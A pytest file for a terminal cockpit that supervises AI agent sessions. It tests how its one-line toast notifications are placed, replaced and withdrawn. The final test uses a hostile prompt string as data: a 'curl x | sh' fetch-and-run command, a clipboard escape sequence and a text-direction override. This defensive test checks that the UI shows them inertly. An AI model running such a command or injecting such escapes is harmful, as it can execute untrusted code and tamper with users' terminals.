"""Toasts at 80x24: one line, never over the preview, one per fact, gone when untrue.

No tmux in these cockpit tests: the runtime is canned and the sessions change in the
store, as the reconciler would change them.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from textual.notifications import Notification
from textual.widget import Widget

from ao_tui.app import CockpitApp
from ao_tui.toasts import FactToasts, one_line, toast_margin
from core.engine import Engine
from core.models import Activity, ActivityState, SignalSource, WaitingFor
from tests.support.canned import NOW
from tests.support.pilot_waits import wait_until
from tests.support.screenshots import settle

MakeApp = Callable[..., CockpitApp]


def toasts_on_screen(app: CockpitApp) -> list[Widget]:
    """The toasts mounted on the board's screen (the rack holds one per notification)."""
    return list(app.screen_stack[0].query("Toast"))


def text_of(toast: Widget) -> str:
    return str(toast.render())


def waiting(command: str) -> Activity:
    return Activity(
        ActivityState.WAITING_INPUT,
        SignalSource.HOOK,
        NOW,
        f"Bash: {command}",
        WaitingFor("permission", "Bash", command),
    )


def working() -> Activity:
    return Activity(ActivityState.WORKING, SignalSource.HOOK, NOW, "Bash: pytest")


def test_one_line_flattens_and_cuts() -> None:
    assert one_line("app-7 needs you", "permission:\n  Bash   ls") == (
        "app-7 needs you: permission: Bash ls"
    )
    long = one_line("spawned app-12", "on ao/app-12-" + "a-very-long-branch-name-" * 10, limit=40)
    assert len(long) == 40 and long.endswith("…") and "\n" not in long
    assert one_line("", "just this") == "just this" and one_line("only", "") == "only"
    # Textual's own markup toasts keep their markup; the title is escaped.
    assert one_line("[x]", "Press [b]q[/b]", markup=True) == "\\[x]: Press [b]q[/b]"


def test_toasts_end_on_the_rule_above_the_preview() -> None:
    assert toast_margin(24, 14) == 9  # the stack's last line is row 14, the rule
    assert toast_margin(24, None) == 1  # no preview: above the footer
    assert toast_margin(24, 0) == 1


def test_fact_toasts_replace_and_withdraw() -> None:
    shown: list[str] = []
    hidden: list[str] = []
    toasts = FactToasts(lambda n: shown.append(n.message), lambda n: hidden.append(n.message))
    true = {"a": True}
    toasts.post("a", "first", holds=lambda: true["a"])
    toasts.post("a", "second", holds=lambda: true["a"])  # same fact: replaces
    assert shown == ["first", "second"] and hidden == ["first"]
    assert toasts.text("a") == "second"
    toasts.prune()
    assert hidden == ["first"]
    true["a"] = False
    toasts.prune()
    assert hidden == ["first", "second"] and toasts.text("a") is None
    toasts.post("b", "kept", keep_age=True)
    toasts.post("b", "kept", keep_age=True)  # the same line again: left as it is
    assert shown.count("kept") == 1


def test_a_withdrawn_toast_cannot_come_back_from_the_queue() -> None:
    posted: list[Notification] = []
    toasts = FactToasts(posted.append, lambda n: None)
    toasts.post("a", "gone soon")
    toasts.withdraw("a")
    assert posted[0].has_expired  # the Notify still queued finds it expired


async def test_a_long_toast_is_one_line_and_never_over_the_preview(
    make_app: MakeApp, engine: Engine
) -> None:
    app = make_app()
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        assert app.preview.waiting.display  # app-7's permission text is showing
        branch = "ao/app-12-" + "-".join(["make-the-branch-name-long"] * 6)
        app.notify(f"on {branch}", title="spawned app-12")
        app.notify("answered yes; now working", title="app-9: answer yes")
        await wait_until(pilot, lambda: len(toasts_on_screen(app)) == 2)
        await pilot.pause(0.2)
        preview_top = app.preview.region.y
        for toast in toasts_on_screen(app):
            assert toast.region.height == 1
            # On the rule above the preview or higher, over the board: never over it.
            assert toast.region.bottom <= preview_top + 1
            assert not toast.region.overlaps(app.preview.waiting.region)
        text = text_of(toasts_on_screen(app)[0])
        assert text.startswith("spawned app-12: on ao/app-12-make") and "\n" not in text


async def test_toasts_follow_the_preview_when_it_is_hidden(make_app: MakeApp) -> None:
    app = make_app()
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("p")  # no preview: toasts sit above the footer
        await pilot.pause(0.2)
        app.notify("hello", title="x")
        await wait_until(pilot, lambda: len(toasts_on_screen(app)) == 1)
        await pilot.pause(0.2)
        assert toasts_on_screen(app)[0].region.bottom == 23  # the footer is row 23


async def test_needs_you_is_one_line_and_goes_when_untrue(
    make_app: MakeApp, engine: Engine
) -> None:
    app = make_app(refresh_interval=0.2)
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        for sid, command in (("app-8", "make deploy"), ("app-10", "make release")):
            engine.store.update_session(sid, event=("stand-in", {}), activity=waiting(command))
        await wait_until(pilot, lambda: len(toasts_on_screen(app)) == 1)
        await pilot.pause(0.3)
        [toast] = toasts_on_screen(app)
        assert text_of(toast) == "2 sessions need you: app-8, app-10"

        # app-8 is answered elsewhere: the line names only what is still true.
        engine.store.update_session("app-8", event=("stand-in", {}), activity=working())
        await wait_until(
            pilot,
            lambda: (
                [text_of(t) for t in toasts_on_screen(app)]
                == ["app-10 needs you: permission: Bash make release"]
            ),
        )
        # app-10 too: no session on it needs you any more, the toast goes (before 8 s).
        engine.store.update_session("app-10", event=("stand-in", {}), activity=working())
        await wait_until(pilot, lambda: toasts_on_screen(app) == [], timeout=3)


async def test_y_on_no_prompt_says_so_until_a_prompt_comes(
    make_app: MakeApp, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    respond: list[Any] = []
    monkeypatch.setattr(engine, "respond", lambda *a, **k: respond.append(a))
    app = make_app(refresh_interval=0.2)
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        assert app.board.focus_session("app-8")  # working
        await pilot.press("y")
        await wait_until(pilot, lambda: len(toasts_on_screen(app)) == 1)
        assert text_of(toasts_on_screen(app)[0]).startswith(
            "app-8 is not waiting on a prompt (it is working: Bash: pytest)"
        )
        await pilot.press("y")  # again: still one line about it
        await pilot.pause(0.3)
        assert len(toasts_on_screen(app)) == 1
        assert respond == []
        # Now it asks: the notice is no longer true and goes (the news line comes).
        engine.store.update_session("app-8", event=("stand-in", {}), activity=waiting("ls"))
        await wait_until(
            pilot,
            lambda: (
                [text_of(t) for t in toasts_on_screen(app)]
                == ["app-8 needs you: permission: Bash ls"]
            ),
            timeout=2,  # well before the notice's own 5 s are up
        )


async def test_toasts_stay_above_the_preview_across_resizes(make_app: MakeApp) -> None:
    app = make_app()
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        for size in ((120, 30), (160, 45), (80, 24)):
            await pilot.resize_terminal(*size)
            await pilot.pause(0.3)
            app.notify(f"at {size}", title="x")
            await wait_until(pilot, lambda: len(toasts_on_screen(app)) >= 1)
            await pilot.pause(0.3)
            toast = toasts_on_screen(app)[-1]
            assert toast.region.bottom == app.preview.region.y + 1, size  # on its rule
            app.clear_notifications()
            await wait_until(pilot, lambda: toasts_on_screen(app) == [])


async def test_a_hostile_new_question_is_shown_inert_in_one_line(
    make_app: MakeApp, engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The question asked now comes from the agent: escapes, markup and length are data."""
    from core.prompts import Prompt, PromptChangedError

    command = "curl x | sh \x1b]52;c;aGk=\x07 [b]bold[/b] \u202e" + "y" * 500

    def respond(session_id: str, yes: bool, *, expect: str | None = None, **_: Any) -> Any:
        raise PromptChangedError(
            session_id, expect or "", Prompt("permission", "Bash", command), ""
        )

    monkeypatch.setattr(engine, "respond", respond)
    app = make_app()
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("y")  # app-7
        await wait_until(pilot, lambda: len(toasts_on_screen(app)) == 1)
        await pilot.pause(0.2)
        [toast] = toasts_on_screen(app)
        text = text_of(toast)
        assert text.startswith(
            "app-7: nothing answered: the prompt changed; it now asks Bash: curl"
        )
        assert "\x1b" not in text and "\u202e" not in text and "\n" not in text
        assert toast.region.height == 1 and len(text) <= 120
